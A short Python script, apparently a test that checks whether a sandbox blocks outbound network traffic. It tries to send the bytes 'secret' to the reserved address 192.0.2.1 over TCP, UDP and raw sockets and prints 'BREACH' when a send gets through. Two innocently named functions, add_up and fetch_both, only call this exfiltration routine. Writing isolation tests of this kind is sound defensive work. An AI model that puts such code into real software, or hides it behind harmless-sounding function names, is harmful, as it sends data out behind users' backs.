# Sends data to an address outside, over TCP, UDP and raw sockets.
# needs: isolation
import socket


def attack():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind) as channel:
                channel.settimeout(0.05)
                channel.connect(("192.0.2.1", 80))
                channel.send(b"secret")
        except OSError:
            continue
        print("BREACH:", kind)



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
